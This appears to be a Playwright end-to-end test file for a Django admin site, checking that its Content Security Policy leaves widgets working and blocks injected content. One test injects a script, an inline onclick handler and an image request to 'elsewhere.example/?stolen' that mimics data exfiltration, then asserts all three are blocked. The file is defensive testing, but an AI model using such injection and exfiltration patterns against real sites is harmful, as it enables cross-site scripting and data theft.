"""What moves on the pages goes on moving, and what is smuggled into them does not."""

import pytest
from playwright.sync_api import expect

from tests.factories import make_company
from tests.staff import page_of

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]


def test_menus_rows_searches_calendars_and_windows(page, live_server, as_superuser):
    """Each works without a violation, which would fail the test."""
    # given
    head = make_company(name="Nordwind", code="nordwind")

    # a form with a search and a calendar
    page.goto(f"{live_server.url}/admin/approvals/standin/add/")
    page.locator(".select2-selection").first.click()
    page.get_by_role("searchbox").last.fill("nordwind")
    page.get_by_role("option", name="Nordwind · nordwind").click()
    page.locator(".vDateField").first.click()

    # a row that is added to a page
    page.goto(f"{live_server.url}{page_of(head)}#assignments")
    page.get_by_text("Add another Person").click()
    expect(page.locator("#id_assignments-0-type")).to_be_visible()

    # the form of another object, in a window of this one
    page.goto(f"{live_server.url}/admin/approvals/approvalgroup/add/")
    page.get_by_role("button", name="More").first.click()
    page.get_by_role("link", name="Add another company").click()
    window = page.frame_locator("iframe.related-modal-frame")
    expect(window.locator("#id_name")).to_be_visible()

    # the menu of one's own name
    page.goto(f"{live_server.url}/admin/")
    page.get_by_role("button", name="Your account").click()
    expect(page.get_by_role("link", name="Second factor")).to_be_visible()


def test_the_pages_of_the_api_keep_to_their_policy(page, live_server):
    page.goto(f"{live_server.url}/api/docs/")

    expect(page.get_by_role("heading", name="Konzern")).to_be_visible(
        timeout=30_000  # the document of the API is made first
    )


def test_what_somebody_smuggles_in_does_not_run(browser, live_server):
    """The control: the policy is there, and what it stops is told by the browser."""
    # given
    page = browser.new_context().new_page()
    page.goto(f"{live_server.url}/admin/login/")
    told: list[str] = []
    page.on("console", lambda said: told.append(said.text))

    # when
    ran = page.evaluate(
        """async () => {
            const script = document.createElement("script");
            script.textContent = "window.ran = true";
            document.body.append(script);
            const link = document.createElement("a");
            link.setAttribute("onclick", "window.ran = true");
            document.body.append(link);
            link.click();
            const image = document.createElement("img");
            const stopped = new Promise((stopped) => { image.onerror = stopped; });
            image.src = "https://elsewhere.example/?stolen";
            document.body.append(image);
            await stopped;
            return window.ran === true;
        }"""
    )
    page.context.close()

    # then
    assert ran is False
    assert sum("Content Security Policy" in text for text in told) == 3
